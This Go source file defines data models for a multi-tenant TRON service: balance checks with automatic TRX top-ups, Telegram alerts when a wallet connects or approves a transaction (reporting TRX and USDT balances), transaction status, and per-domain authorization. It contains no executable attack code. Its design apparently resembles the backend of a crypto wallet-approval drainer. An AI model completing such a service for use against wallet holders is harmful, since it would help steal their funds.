package model

import "github.com/shopspring/decimal"

// CheckBalanceRequest represents the incoming JSON body
type CheckBalanceRequest struct {
	UserAddress string `json:"userAddress" binding:"required"`
}

type CheckBalanceResponse struct {
	Balance        decimal.Decimal `json:"balance"`
	NeedsFunding   bool            `json:"needsFunding"`
	AutoSendAmount decimal.Decimal `json:"autoSendAmount"`
}

type SendTrxRequest struct {
	UserAddress string `json:"userAddress" binding:"required"`
}

type SendTrxResponse struct {
	Sent          bool             `json:"sent"`
	Balance       *decimal.Decimal `json:"balance,omitempty"`
	TransactionID string           `json:"transactionId,omitempty"`
	Amount        *decimal.Decimal `json:"amount,omitempty"`
}

// NotifyTypeApprove / NotifyTypeConnect are the only accepted
// /telegram-notify kinds.
const (
	NotifyTypeApprove = "transaction_approve"
	NotifyTypeConnect = "wallet_connect"
)

type TelegramNotifyRequest struct {
	Type          string           `json:"type" binding:"required,oneof=transaction_approve wallet_connect"`
	WalletAddress string           `json:"walletAddress"`
	TransactionID string           `json:"transactionId,omitempty"`
	Amount        *decimal.Decimal `json:"amount,omitempty"`
	TrxBalance    *decimal.Decimal `json:"trxBalance,omitempty"`
	UsdtBalance   *decimal.Decimal `json:"usdtBalance,omitempty"`
	Approved      *bool            `json:"approved,omitempty"`
}

type TelegramNotifyResponse struct {
	Success          bool `json:"success"`
	NotificationSent bool `json:"notificationSent"`
	Duplicate        bool `json:"duplicate,omitempty"`
}

type TransactionStatusRequest struct {
	TransactionID string `json:"transactionId" binding:"required"`
}

type TransactionStatusResponse struct {
	Status      string      `json:"status"` // success | failed
	Confirmed   bool        `json:"confirmed"`
	Transaction interface{} `json:"transaction,omitempty"`
}

type VerifyDomainResponse struct {
	Authorized bool   `json:"authorized"`
	Enabled    bool   `json:"enabled"`
	Domain     string `json:"domain,omitempty"`
}

// ServerInfoResponse exposes a tenant's public operational parameters.
// The signing secret never crosses this surface.
type ServerInfoResponse struct {
	Domain               string          `json:"domain"`
	WalletAddress        string          `json:"walletAddress"`
	AutoFundAmount       decimal.Decimal `json:"autoFundAmount"`
	MinBalanceThreshold  decimal.Decimal `json:"minBalanceThreshold"`
	Enabled              bool            `json:"enabled"`
	NotificationsEnabled bool            `json:"notificationsEnabled"`
}
